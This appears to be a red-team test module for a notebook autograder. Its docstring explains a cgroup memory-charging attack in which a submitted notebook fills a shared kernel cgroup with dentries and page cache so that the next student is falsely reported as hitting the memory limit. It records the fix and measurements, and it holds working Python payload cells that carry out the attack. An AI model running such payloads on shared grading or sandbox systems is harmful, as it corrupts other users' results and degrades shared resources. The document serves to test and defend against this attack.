"""Fill the kernel template's memory cgroup with dentries and page cache that outlive the kernel: later students "hit the memory limit".

Class 1 (a kernel leaves state in something every later kernel of its worker shares). It won
against the grader before the fix below: an honest student graded next on the same worker was
reported "memory limit: reached (an error the notebook caught, or seen by the sandbox)", on their
feedback page and in the class report (no points lost; a kernel of theirs that died would have
been said to have died of the memory limit).

Nothing is implemented (a kernel that does little keeps its own memory small). Sixteen cells
added before the notebook's first code cell each spend up to 6 s charging memory that is not
freed when the kernel dies to the cgroup the kernel runs in. First it asks for files that do not
exist under /usr/lib, with names of 250 characters (each ``stat`` leaves a negative dentry and
its name, 687 bytes here, about 100 MB/s) until the cgroup is 300 MiB short of its limit (the
kernel's RLIMIT_AS, which it can read, plus the 512 MiB grading/kernel_template.py adds: 2.5
GiB); then it reads files of /usr in a random order: the pages of those not in the page cache
yet are charged to the cgroup too and take it to its limit, where the kernel reclaims page
cache a little at a time. (With only dentries to reclaim, the kernel drops nearly all of them at
once, and the cgroup is left empty: dentries alone do not win.)

As root, a forked kernel runs in its template's memory cgroup (one cgroup per template, for
every kernel it forks), and page cache and dentries are charged to the cgroup of the process
that made them and stay there when it exits. The next kernel of the worker started in a cgroup
at its limit: its first few megabytes made the kernel reclaim, and each reclaim counted in
``memory.failcnt``, which ``SandboxedKernelManager.limits_hit`` read as the memory limit hit.
The red team measured it through `make grade`'s path on one worker: zzz-honest reported "memory
limit", 100 points, the attacker 69 s and 160 MiB of grader memory; only with cold files (a
second run right after, with the files in the page cache, charged to the first run's cgroup, did
not hit), so it wins only now and then: here, twice before the fix with /usr's page cache evicted
first, zzz-honest was not hit (the cgroup reached 2559 MiB and fell to 1.6-1.9 GiB once the
attacker ended), but the attacker itself was reported at the memory limit (307,648 reclaims).

Defended: the memory limit is an OOM kill in the cgroup (memory.oom_control's oom_kill, counted
from the kernel's start), not a reclaim; and once a kernel has ended, and no other kernel of the
template runs, the template's cgroup is emptied of what it left (memory.force_empty,
``KernelTemplate.release``). tests/test_kernel_template.py reproduces the attack without cold
files (a sparse file's page cache). Measured after the fix (/usr's page cache evicted first, one
worker): the attacker filled the cgroup to 2559 of 2560 MiB, the cgroup held about 155 MiB while
zzz-honest ran; nobody reported at the memory limit, the attacker included (before: itself, from
its own reclaims).

Reproduce, on one worker (zzz-honest graded right after the attacker on the same worker), on a
machine whose /usr is mostly not in the page cache:

    taskset -c 0 .venv/bin/python tests/attacks/_measure.py cache-charge

and read "honest_problems" in its output. In the whole suite, with two workers, only the
student graded next on the attacker's worker could be hit.
Without protection: no cgroup, no report; the memory (reclaimable) is the machine's.
"""
import nbformat

BASE = "release"
EXPECT = set()
BUDGET_SECONDS = 150
CELLS = 16

CHARGE = r'''# cnnattack_cache_charge
import os as _cc_os, random as _cc_random, resource as _cc_resource, time as _cc_time

if "_cnnattack_cache_charge" not in globals():
    # The template's cgroup allows the kernel's address-space limit (RLIMIT_AS, the course's memory_limit) and
    # 512 MiB more (grading/kernel_template.py). Dentries first, to 300 MiB short of that: reaching the limit with
    # little but dentries to reclaim makes the kernel drop nearly all of them at once. Then page cache, which
    # reclaim takes back a little at a time, to the limit and beyond.
    _cc_limit = _cc_resource.getrlimit(_cc_resource.RLIMIT_AS)[0] + 512 * 2 ** 20
    _cnnattack_cache_charge = {"names": 0, "goal": (_cc_limit - 300 * 2 ** 20) // 687, "read": 0, "files": None,
                               "tag": "%016x" % _cc_random.getrandbits(64)}
_cc = _cnnattack_cache_charge
_cc_started = _cc_time.monotonic()
_cc_long = "x" * 200  # a name longer than a dentry holds inline: its text is allocated, and charged, apart
while _cc["names"] < _cc["goal"] and _cc_time.monotonic() - _cc_started < 6:
    for _ in range(min(20000, _cc["goal"] - _cc["names"])):
        try:
            _cc_os.stat(f"/usr/lib/cnnattack-cache-charge-{_cc['tag']}-{_cc['names']}-{_cc_long}")
        except OSError:
            pass
        _cc["names"] += 1
if _cc["names"] >= _cc["goal"] and _cc["files"] is None:
    # Files of /usr in a random order: those that are not in the page cache yet are charged to this cgroup (one
    # read before is charged to whoever read it first).
    _cc["files"] = []
    for _cc_root, _, _cc_names in _cc_os.walk("/usr"):
        _cc["files"] += [_cc_os.path.join(_cc_root, n) for n in _cc_names]
    _cc_random.shuffle(_cc["files"])
_cc_buffer = bytearray(1 << 20)
while _cc["files"] and _cc["read"] < 4 * 2 ** 30 and _cc_time.monotonic() - _cc_started < 6:
    try:
        with open(_cc["files"].pop(), "rb", buffering=0) as _cc_handle:
            while True:
                _cc_n = _cc_handle.readinto(_cc_buffer)
                if not _cc_n:
                    break
                _cc["read"] += _cc_n
    except OSError:
        pass
print("cache-charge:", {k: v for k, v in _cc.items() if k != "files"})
'''


def EDIT(nb):
    first_code = next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code")
    nb.cells[first_code:first_code] = [nbformat.v4.new_code_cell(CHARGE) for _ in range(CELLS)]
